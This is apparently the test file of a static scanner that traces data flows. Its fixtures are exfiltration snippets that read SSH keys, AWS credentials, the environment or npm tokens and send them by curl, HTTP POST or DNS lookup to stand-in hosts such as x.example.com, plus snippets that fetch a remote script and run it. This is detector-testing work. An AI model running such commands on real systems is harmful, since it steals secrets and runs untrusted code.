import { describe, expect, it } from "vitest";
import { followData } from "./flow.ts";
import { type Language, programOf } from "./program.ts";
import { flowFindings } from "./rules/flows.ts";
import { finish } from "./steps.ts";

type Source = readonly [path: string, language: Language, text: string];

const codesOf = (...sources: readonly Source[]): string[] =>
  flowFindings(
    finish(followData(sources.map(([path, language, text]) => programOf(path, language, text)))).flows,
    "",
  ).map(({ code, severity }) => `${severity} ${code}`);
const python = (text: string): string[] => codesOf(["a.py", "python", text]);
const shell = (text: string): string[] => codesOf(["a.sh", "shell", text]);
const javascript = (text: string): string[] => codesOf(["a.mjs", "javascript", text]);

describe("data that is sent", () => {
  it("is followed through assignments, containers and encoders", () => {
    expect(
      python(
        'import os, requests\nenv = dict(os.environ)\nbody = {"a": base64.b64encode(json.dumps(env).encode())}\nrequests.post("https://x.example.com/c", json=body)',
      ),
    ).toContain("high flow-environment-sent");
  });

  it("is followed through functions that are defined later, and their parameters", () => {
    const text = `def main():\n    send(collect())\ndef collect():\n    path = os.path.expanduser("~/.aws/credentials")\n    return open(path).read()\ndef send(payload):\n    requests.post("https://x.example.com", data=payload)\n`;
    expect(python(text)).toEqual(["high flow-credentials-sent"]);
  });

  it("is followed from one file of the package to another", () => {
    expect(
      codesOf(
        ["collect.py", "python", "def gather():\n    return {k: v for k, v in os.environ.items()}"],
        [
          "send.py",
          "python",
          'from collect import gather\nrequests.post("https://x.example.com", json=gather())',
        ],
      ),
    ).toEqual(["high flow-environment-sent"]);
  });

  it("is followed through files and pipes of the shell", () => {
    expect(shell("cat ~/.ssh/id_rsa > /tmp/.k\ncurl -F file=@/tmp/.k https://x.example.com/up")).toEqual([
      "high flow-credentials-sent",
    ]);
    expect(shell('DATA=$(env | base64)\ncurl -d "$DATA" https://x.example.com/up')).toEqual([
      "high flow-environment-sent",
    ]);
  });

  it("is followed through connections and callbacks", () => {
    expect(
      javascript(
        'const k = fs.readFileSync(os.homedir() + "/.ssh/id_rsa");\nconst r = https.request("https://x.example.com", { method: "POST" });\nr.write(k);\nr.end();',
      ),
    ).toContain("high flow-credentials-sent");
  });

  it("is found in host names", () => {
    expect(shell("dig $(echo $NPM_TOKEN | base64).x.example.com")).toContain("high flow-secret-sent");
    expect(shell('nslookup "$host"')).toEqual([]);
  });

  it("is a matter of the server for one secret", () => {
    const post = (host: string): string[] =>
      python(`key = os.environ["ACME_API_KEY"]\nrequests.post("https://${host}/v1", json={"key": key})`);
    expect(post("api.acme.com")).toEqual([]);
    expect(post("collector.example.com")).toEqual(["medium flow-secret-sent"]);
    expect(post("webhook.site")).toEqual(["high flow-secret-sent"]);
  });
});

describe("data that is used as intended", () => {
  it.each([
    [
      'key = os.environ["API_KEY"]\nrequests.post("https://x.example.com", headers={"Authorization": f"Bearer {key}"}, json={"q": 1})',
    ],
    [
      'env = {**os.environ, "A": "1"}\nout = subprocess.run(["x"], env=env)\nrequests.post("https://x.example.com", data=out.stdout)',
    ],
    ['files = [".env", ".aws/credentials"]\nprint(files)\nrequests.get("https://x.example.com")'],
    ['requests.post("http://localhost:3000", json=dict(os.environ))'],
  ])("raises no alarm: %s", (text) => {
    expect(python(text).filter((finding) => !finding.startsWith("low"))).toEqual([]);
  });

  it("raises no alarm for names in a word list of a shell loop", () => {
    expect(
      shell('for f in .env .aws/credentials; do\ncurl -s "https://target.example.com/$f"\ndone'),
    ).toEqual([]);
  });
});

describe("code from a server", () => {
  it("is found when it is run from memory or from a file, in any order of files", () => {
    expect(python('code = requests.get("https://x.example.com/p").text\nexec(code)')).toEqual([
      "high flow-remote-run",
    ]);
    expect(
      codesOf(
        ["run.sh", "shell", "bash /tmp/stage.sh"],
        ["get.sh", "shell", "curl -s http://203.0.113.9/s -o /tmp/stage.sh"],
      ),
    ).toEqual(["high flow-remote-run"]);
  });

  it("is not what a program gets as an argument", () => {
    expect(
      python(
        'url = requests.get("https://x.example.com").json()["u"]\nsubprocess.run(["ffmpeg", "-i", url])',
      ),
    ).toEqual([]);
    expect(
      javascript('const html = await fetch("https://x.example.com");\nconst m = /a(b)/.exec(html);'),
    ).toEqual([]);
  });
});

describe("texts that code builds", () => {
  it("are handed on with their line", () => {
    const program = programOf(
      "a.py",
      "python",
      `a = "cu"\nb = "rl x"\nc = "".join([a, b])\nk = bytes.fromhex("6375726c2068747470733a2f2f78").decode()`,
    );
    expect(finish(followData([program])).built).toMatchObject(
      [
        { line: 3, text: "curl x" },
        { line: 4, text: "curl https://x" },
      ].slice(1),
    );
  });
});

describe("hostile input", () => {
  it.each([
    ["quotes", '"'.repeat(100_000)],
    ["brackets", "f(".repeat(50_000)],
    ["assignments", "a = b = c\n".repeat(20_000)],
    ["here-documents", "cat <<A <<B\n".repeat(5_000)],
    ["one long statement", `x = ${"y + ".repeat(60_000)}1`],
  ])("ends soon: %s", (_, text) => {
    for (const language of ["shell", "python", "javascript"] as const)
      followData([programOf("a", language, text)]);
  });
});

describe("the arguments of a call", () => {
  const check = (call: string): string[] =>
    python(
      `import os, requests\nkey = os.environ["OTHER_API_KEY"]\ndef look(address, key):\n    requests.get("https://lookup.tools/" + address, headers={"x-api-key": key})\n${call}\n`,
    );

  it("reach the parameters of their places", () => {
    expect(check('look("1.2.3.4", key)')).toEqual([]);
    expect(check('look(key, "1.2.3.4")')).toEqual(["medium flow-secret-sent"]);
    expect(check('look(key="1.2.3.4", address=key)')).toEqual(["medium flow-secret-sent"]);
  });
});

it("a comparison in shell runs nothing", () => {
  expect(
    shell('text=$(curl -s https://docs.tools/a)\nif [[ -n "$text" && "$text" != "null" ]]; then echo; fi'),
  ).toEqual([]);
});
